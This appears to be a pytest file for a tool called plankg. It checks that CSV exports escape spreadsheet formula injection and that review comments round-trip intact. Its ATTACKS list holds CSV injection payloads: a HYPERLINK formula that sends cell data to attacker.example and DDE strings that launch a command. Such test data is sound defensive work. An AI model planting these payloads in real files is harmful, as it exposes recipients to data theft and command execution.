"""Formula injection (issue 11 case 4): every CSV plankg writes neutralises cells that a
spreadsheet would run, and review import keeps what the reviewer typed."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pyoxigraph as ox
import pytest

from plankg.review import export_review_sheet, import_review_sheet, reviews
from plankg.sheets import needs_neutralising, neutralise, restore
from tests.conftest import ROOT
from tests.test_review import T0, fill, linked, read_csv, store, write_csv

__all__ = ["linked", "store"]  # fixtures used below

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?"&A2,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize(
    "cell, safe",
    [
        *[(a, "'" + a) for a in ATTACKS],
        ("-3", "-3"),
        ("+1.5", "+1.5"),
        ("-2.4%", "-2.4%"),
        ("1e5", "1e5"),
        ("永川区", "永川区"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_neutralise_table(cell: str, safe: str) -> None:
    assert neutralise(cell) == safe
    assert restore(neutralise(cell)) == cell
    assert not needs_neutralising(safe)


def test_an_apostrophe_typed_before_a_formula_means_text_as_in_excel() -> None:
    assert restore("'=x") == "=x" and restore("'abc") == "'abc"


def _cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8-sig", newline="") as f:  # keep a CR inside a cell
        return [c for row in csv.reader(f) for c in row]


def _dicts(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


def test_review_comments_round_trip_and_export_neutralised(store: ox.Store, tmp_path: Path) -> None:
    sheet = tmp_path / "round.csv"
    export_review_sheet(store, sheet)
    rows = read_csv(sheet)[: len(ATTACKS) * 2]
    filled = fill(rows, {i: "接受" for i in range(len(rows))})
    for i, row in enumerate(filled):
        attack = ATTACKS[i % len(ATTACKS)]
        # half typed as they are, half as our own export writes them (apostrophe first)
        row["comment"] = attack if i < len(ATTACKS) else neutralise(attack)
    write_csv(sheet, filled)
    import_review_sheet(store, sheet, reviewer="李四", now=T0)
    by_link = {r.link: r.comment for r in reviews(store)}
    for i, row in enumerate(filled):
        assert by_link[row["link"]] == ATTACKS[i % len(ATTACKS)], row["comment"]
    again = tmp_path / "again.csv"
    export_review_sheet(store, again, include_reviewed=True)
    cells = _cells(again)
    assert not any(needs_neutralising(c) for c in cells)
    last = {r["link"]: r["last_comment"] for r in _dicts(again)}
    for row in filled:
        assert restore(last[row["link"]]) == by_link[row["link"]]


def test_query_and_graph_csvs_are_neutralised(linked: Path, tmp_path: Path) -> None:
    """`plankg sparql --format csv` (the query CSV) and an edge CSV of export-graph."""
    query = (
        'SELECT ?x ?y WHERE { VALUES (?x ?y) { ("=1+1" "@SUM(A1)") '
        '("+cmd|\' /C calc\'!A0" "-3") } }'
    )
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "plankg.cli",
            "sparql",
            "--store",
            str(linked),
            "--format",
            "csv",
            query,
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    rows = list(csv.reader(io.StringIO(done.stdout.lstrip("\ufeff"))))
    assert rows[1:] == [["'=1+1", "'@SUM(A1)"], ["'+cmd|' /C calc'!A0", "-3"]]
    out = tmp_path / "edges.csv"
    done = subprocess.run(
        [
            sys.executable,
            "-m",
            "plankg.cli",
            "export-graph",
            "indicators",
            "--store",
            str(linked),
            "--format",
            "csv",
            "-o",
            str(out),
        ],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr
    cells = _cells(out)
    assert cells and not any(needs_neutralising(c) for c in cells)
    assert any(c.startswith("'=") for c in cells)  # the comparator column holds "="
